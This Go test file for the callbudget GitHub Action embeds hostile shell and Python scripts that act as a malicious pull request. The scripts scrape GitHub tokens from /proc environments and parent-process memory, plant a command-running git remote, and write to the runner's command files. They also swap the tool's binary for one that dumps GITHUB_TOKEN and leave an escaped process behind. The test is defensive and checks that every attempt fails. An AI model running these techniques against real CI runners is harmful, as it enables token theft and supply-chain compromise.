package main

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/callbudget/callbudget/internal/fakegithub"
)

// hostileSh is a pull request's code that tries every way out the
// security review found (docs/SECURITY.md), run as the python scenario's
// first command. What it gets it writes to loot.txt in the workspace and
// prints.
const hostileSh = `set -u
loot="$PWD/loot.txt"
: >"$loot"
# 1. Tokens: every process's environment and command line, and the memory
#    of its ancestors up to callbudget.
python3 hostile.py >>"$loot" 2>&1
env | grep -E '^(GITHUB_OUTPUT|GITHUB_ENV|GITHUB_PATH|GITHUB_STEP_SUMMARY|GITHUB_STATE|ACTIONS_)' | sed 's/^/inherited /' >>"$loot"
# 4. Hide the budget raise: the base version back on disk.
git show HEAD~1:callbudget.budget.yaml >callbudget.budget.yaml
# 1. callbudget's own git: a promisor remote that runs a program, and the
#    base commit's object gone so that git would fetch it.
base=$(git rev-parse HEAD~1)
git config core.repositoryformatversion 1
git config extensions.partialclone evil
git config remote.evil.url "ext::sh -c touch% $PWD/git-ran"
git config remote.evil.promisor true
git config protocol.ext.allow always
rm -f ".git/objects/$(echo "$base" | cut -c1-2)/$(echo "$base" | cut -c3-)"
# 2. The runner's command files, found in its temp folder.
for f in "$RUNNER_TEMP"/_runner_file_commands/*; do
  case "$f" in
  *set_output_*) printf 'verdict=ok\n' >>"$f" ;;
  *set_env_*) printf 'NODE_OPTIONS=--require /tmp/evil.js\n' >>"$f" ;;
  *add_path_*) printf '/tmp/evil-bin\n' >>"$f" ;;
  *step_summary_*) printf 'forged summary line\n' >>"$f" ;;
  esac
done
# The binary the comment step will run with the token: replaced.
p=$PPID
while [ "$p" -gt 1 ]; do
  exe=$(readlink "/proc/$p/exe" 2>/dev/null || true)
  case "$exe" in */callbudget)
    rm -f "$exe"
    printf '#!/bin/sh\necho "$GITHUB_TOKEN" >"%s/stolen"\n' "$PWD" >"$exe"
    chmod +x "$exe"
    break ;;
  esac
  p=$(sed 's/.*) //' "/proc/$p/stat" | cut -d' ' -f2)
done
# 5. A process out of the group, the parent and the tag: it would wait for
#    the comment step.
setsid sh -c '(env -i PATH="$PATH" sh -c "echo \$\$ >escaped.pid; exec sleep 1000" &)' </dev/null >/dev/null 2>&1
while [ ! -s escaped.pid ]; do sleep 0.01; done
# 3. Over 1 MiB of output, then workflow commands.
python3 -c 'import sys
for _ in range(1200): sys.stdout.write("x" * 1023 + "\n")'
echo "::error::forged error"
echo "::add-mask::callbudget"
echo "::set-output name=verdict::ok"
cat "$loot"
`

const hostilePy = `import os, re
pat = re.compile(rb"gh[pousr]_[A-Za-z0-9_]{10,}")
found = set()
for pid in os.listdir("/proc"):
    if not pid.isdigit():
        continue
    for name in ("environ", "cmdline"):
        try:
            with open("/proc/%s/%s" % (pid, name), "rb") as f:
                found.update(pat.findall(f.read()))
        except OSError:
            pass
pid = os.getppid()
while pid > 1:
    try:
        exe = os.readlink("/proc/%d/exe" % pid)
        with open("/proc/%d/maps" % pid) as f:
            maps = f.read().splitlines()
        with open("/proc/%d/mem" % pid, "rb", 0) as mem:
            for line in maps:
                addr, perms = line.split()[:2]
                lo, hi = (int(x, 16) for x in addr.split("-"))
                if "r" not in perms or hi - lo > 256 << 20:
                    continue
                try:
                    mem.seek(lo)
                    found.update(pat.findall(mem.read(hi - lo)))
                except (OSError, ValueError, OverflowError):
                    pass
    except OSError as e:
        print("no access to", pid, e)
        exe = ""
    if exe.endswith("/callbudget"):
        break  # its parents are the runner's, not callbudget's
    with open("/proc/%d/stat" % pid) as f:
        pid = int(f.read().rsplit(")", 1)[1].split()[1])
for t in sorted(found):
    print("found", t.decode())
`

// TestCompositeHostileScenario runs action.yml as the runner does on a
// pull request whose code is hostile (hostileSh): it raises its own
// budget and hides it, reads every environment and its ancestors' memory
// for tokens, rewrites .git/config, writes the runner's command files,
// replaces callbudget's binary, leaves a process that escaped the group,
// and prints forged workflow commands after more than 1 MiB of output.
// None of it works: the token is in nothing it saw or wrote, the outputs,
// summary and later steps' environment are callbudget's, every forged
// command is inside the fence, the budget raise is called out, the
// replaced binary is not run with the token, and nothing of it is left.
func TestCompositeHostileScenario(t *testing.T) {
	r := newCompositeRepo(t)
	// A token of this test alone, so that the search below cannot meet
	// another test's.
	token := fmt.Sprintf("ghs_hostiletest%dx%d", os.Getpid(), time.Now().UnixNano())
	r.gh = fakegithub.New(t, fakegithub.Options{Prefix: "/api/v3", Token: token, Logins: map[string]string{token: actionAuthor}})
	r.env["GITHUB_API_URL"] = strings.TrimSuffix(r.gh.URL(), "/")
	// A job-level GITHUB_TOKEN, as many workflows set.
	r.env["GITHUB_TOKEN"] = token
	base := git(t, r.ws, "rev-parse", "HEAD~1")

	// The pull request: the hostile code, and a raised budget.
	writeTestFile(t, filepath.Join(r.ws, "hostile.sh"), hostileSh)
	writeTestFile(t, filepath.Join(r.ws, "hostile.py"), hostilePy)
	replaceOnce(t, filepath.Join(r.ws, "callbudget.yaml"), "run: python3 bot.py", "run: sh hostile.sh && python3 bot.py")
	budgetPath := filepath.Join(r.ws, "callbudget.budget.yaml")
	data, err := os.ReadFile(budgetPath)
	if err != nil {
		t.Fatal(err)
	}
	writeTestFile(t, budgetPath, raiseBudget(t, string(data), "python", 5))
	r.push(t, base, "README", "a hostile pull request\n")

	res, log := r.runAction(t, repoRoot(t), map[string]string{"github-token": token, "comment": "always"})
	t.Cleanup(func() {
		if t.Failed() {
			t.Logf("job log (tail):\n%s", tail(log, 6000))
		}
	})

	// The token: in nothing the scenario saw, wrote or printed.
	loot, err := os.ReadFile(filepath.Join(r.ws, "loot.txt"))
	if err != nil {
		t.Fatalf("the hostile scenario did not run: %v", err)
	}
	t.Logf("what the scenario found:\n%s", loot)
	if strings.Contains(string(loot), token) || strings.Contains(log, token) {
		t.Error("the scenario found the token")
	}
	if strings.Contains(string(loot), "inherited ") {
		t.Errorf("the scenario inherited the runner's files or ACTIONS_ variables:\n%s", loot)
	}
	if _, err := os.Stat(filepath.Join(r.ws, "git-ran")); err == nil {
		t.Error("callbudget's git ran the repository's program")
	}
	if _, err := os.Stat(filepath.Join(r.ws, "stolen")); err == nil {
		t.Error("the replaced binary ran with the token")
	}

	// The outputs, summary and later steps' environment are callbudget's.
	check := res.Step("check")
	if check == nil || check.ExitCode != 2 || res.Outputs["verdict"] != "error" {
		t.Errorf("check step %+v, outputs %v: want exit 2 and verdict error (a scenario wrote the runner's files)", check, res.Outputs)
	}
	if !strings.Contains(log, "wrote to the runner's command files (GITHUB_OUTPUT, GITHUB_ENV, GITHUB_PATH, GITHUB_STEP_SUMMARY)") {
		t.Error("the log does not say the scenario wrote the runner's command files")
	}
	if strings.Contains(res.Summary, "forged summary line") {
		t.Error("the forged summary line is in the job summary")
	}
	if v, ok := res.Env["NODE_OPTIONS"]; ok {
		t.Errorf("later steps get NODE_OPTIONS=%s", v)
	}
	if len(res.Path) > 0 {
		t.Errorf("later steps get PATH additions %q", res.Path)
	}

	// The budget raise is called out, though the file on disk is the base's
	// again.
	if !strings.Contains(res.Summary, "This pull request changes the budget file") {
		t.Errorf("the summary does not call out the budget raise:\n%s", tail(res.Summary, 3000))
	}

	// The binary was replaced: the comment step refused to run it.
	if !strings.Contains(log, "changed while the scenarios ran") {
		t.Error("the comment step did not notice the replaced binary")
	}
	if bodies := commentBodies(&actionSetup{gh: r.gh}); len(bodies) != 0 {
		t.Errorf("%d comments posted by a replaced binary", len(bodies))
	}

	// Every forged workflow command is inside the fence.
	assertFenced(t, log, []string{"::error::forged error", "::add-mask::callbudget", "::set-output name=verdict::ok"})

	// Nothing is left.
	pidData, err := os.ReadFile(filepath.Join(r.ws, "escaped.pid"))
	if err != nil {
		t.Fatalf("the escape did not run: %v", err)
	}
	pid, _ := strconv.Atoi(strings.TrimSpace(string(pidData)))
	if pid <= 0 {
		t.Fatalf("escaped.pid %q", pidData)
	}
	if alive(pid) {
		syscall.Kill(pid, syscall.SIGKILL)
		t.Errorf("the escaped process %d outlived the action", pid)
	}
}

// raiseBudget adds n calls to scenario's entry of a budget file: its
// total, its core resource and its first endpoint, as a pull request
// raising its own budget by hand would.
func raiseBudget(t *testing.T, budget, scenario string, n int) string {
	t.Helper()
	start := strings.Index(budget, "\n  "+scenario+":\n")
	if start < 0 {
		t.Fatalf("no %s entry in the budget:\n%s", scenario, budget)
	}
	end := len(budget)
	if next := regexp.MustCompile(`\n  \S`).FindStringIndex(budget[start+1:]); next != nil {
		end = start + 1 + next[0]
	}
	entry := budget[start:end]
	for _, re := range []*regexp.Regexp{
		regexp.MustCompile(`(\n    total: )(\d+)`),
		regexp.MustCompile(`(\n      core: )(\d+)`),
		regexp.MustCompile(`(\n      [A-Z]+ /[^:]*: )(\d+)`),
	} {
		m := re.FindStringSubmatchIndex(entry)
		if m == nil {
			t.Fatalf("%s in the %s entry: no match\n%s", re, scenario, entry)
		}
		v, _ := strconv.Atoi(entry[m[4]:m[5]])
		entry = entry[:m[4]] + strconv.Itoa(v+n) + entry[m[5]:]
	}
	return budget[:start] + entry + budget[end:]
}

// assertFenced checks that each of cmds occurs in log only between a
// ::stop-commands::TOKEN line and its ::TOKEN:: line.
func assertFenced(t *testing.T, log string, cmds []string) {
	t.Helper()
	lines := strings.Split(log, "\n")
	open := ""
	seen := map[string]bool{}
	for i, line := range lines {
		if tok, ok := strings.CutPrefix(line, "::stop-commands::"); ok && open == "" {
			open = tok
			continue
		}
		if open != "" && line == "::"+open+"::" {
			open = ""
			continue
		}
		for _, c := range cmds {
			if strings.Contains(line, c) {
				seen[c] = true
				if open == "" {
					t.Errorf("log line %d, outside the fence: %q", i+1, line)
				}
			}
		}
	}
	for _, c := range cmds {
		if !seen[c] {
			t.Errorf("%q is not in the log at all", c)
		}
	}
}

// alive reports whether pid is a live process (not a zombie).
func alive(pid int) bool {
	stat, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/stat")
	if err != nil {
		return false
	}
	s := string(stat)
	i := strings.LastIndexByte(s, ')')
	return i < 0 || i+2 >= len(s) || s[i+2] != 'Z'
}

func tail(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return "…" + s[len(s)-n:]
}

// TestRunHidesTokenFromScenario: on the command line, the token
// callbudget was started with is not in its /proc/<pid>/environ while the
// scenario runs (the scenario reads its parent's). That it is not
// dumpable either is internal/harden's test (it needs another user).
func TestRunHidesTokenFromScenario(t *testing.T) {
	t.Parallel()
	token := fmt.Sprintf("ghp_clitest%dx%d", os.Getpid(), time.Now().UnixNano())
	dir := t.TempDir()
	script := `env=$(tr '\0' '\n' </proc/$PPID/environ)
case "$env" in *` + token + `*) echo "parent environ: token" ;; *) echo "parent environ: clean" ;; esac
grep -q '^callbudget$' /proc/$PPID/comm && echo "parent: callbudget"
`
	writeFile(t, filepath.Join(dir, "probe.sh"), script)
	cmd := exec.Command(callbudgetBinary(t), "run", "--cassette", filepath.Join(repoRoot(t), "testdata/cassettes/pr-opened.yaml"), "--", "sh", "probe.sh")
	cmd.Dir = dir
	cmd.Env = append(e2eEnv(), "GITHUB_TOKEN="+token, "GH_TOKEN="+token, "INPUT_GITHUB-TOKEN="+token)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("run: %v\n%s", err, out)
	}
	for _, want := range []string{"parent: callbudget", "parent environ: clean"} {
		if !strings.Contains(string(out), want) {
			t.Errorf("no %q in:\n%s", want, out)
		}
	}
}
